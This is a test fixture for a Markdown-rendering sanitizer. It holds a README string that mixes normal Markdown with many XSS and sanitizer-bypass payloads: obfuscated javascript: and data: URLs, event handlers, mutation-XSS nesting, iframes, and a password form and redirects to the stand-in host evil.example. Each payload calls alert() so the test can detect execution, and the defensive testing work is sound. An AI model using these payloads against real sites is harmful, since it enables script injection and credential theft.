// A README written to attack the project page: every way to run script, load a frame or a
// style, or sneak a URL scheme past a sanitizer that we know of, next to the Markdown a real
// README has (headings, a table, strikethrough, links, a badge). Each attack that would run
// calls alert() with its number, so the browser test can see whether any did.
export const HOSTILE_README = `# Hostile README

A **bold** claim, ~~struck~~ out, \`code\`, and a [good link](https://example.com/docs).
Write to [us](mailto:dev@example.com). Go to [Install](#install). A bare URL: https://example.com/auto.
A [relative link](docs/usage.md) and a [protocol-relative one](//evil.example/x).

![build badge](https://img.example/badge.svg)
<img src="http://127.0.0.1:9/plain-http.png" alt="plain http image">

| Feature | Status |
|:--------|-------:|
| tables  | yes    |

## Install

## Files

<script>alert(1)</script>
<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>
<svg><script>alert(2)</script></svg>

[js link](javascript:alert(3))
<a href="javascript:alert(4)">js anchor</a>
<a href="jav&#x61;script:alert(5)">entity js</a>
<a href=" java&#9;script:alert(6)">tab js</a>
<a href="JaVaScRiPt:alert(7)">case js</a>
[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCg4KTwvc2NyaXB0Pg==)
<a href="data:text/html,<script>alert(9)</script>">data anchor</a>
![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEwKSIvPg==)
<a href="vbscript:msgbox(11)">vb</a>

<img src="https://img.example/x.png" onerror="alert(12)" onload="alert(13)">
<div onmouseover="alert(14)" onclick="alert(15)">hover me</div>
<details open ontoggle="alert(16)"><summary>toggle</summary>body</details>
<p style="background:url(javascript:alert(17))">styled</p>
<body onload="alert(18)">

<iframe src="https://evil.example/" srcdoc="<script>alert(19)</script>"></iframe>
<style>body { display: none }</style>
<object data="https://evil.example/x.swf"></object>
<embed src="https://evil.example/x.swf">
<form action="https://evil.example/"><input name="password"><button>go</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css">
<math><mtext><table><mglyph><style><img src=x onerror=alert(20)></style></mglyph></table></mtext></math>

<div><span><b>unclosed tags
<a href="https://ok.example/"><a href="javascript:alert(21)">nested links</a></a>
</div></div></div></span>
<img src=x onerror=alert(22)//
<scr<script>ipt>alert(23)</script>
<noscript><p title="</noscript><img src=x onerror=alert(24)>"></noscript>
<!--<img src=x onerror=alert(25)>-->
<![CDATA[<script>alert(26)</script>]]>
<textarea><script>alert(27)</script></textarea>
<a href="https://ok.example/" target="_blank" rel="opener" id="files">opener</a>

The end.
`;
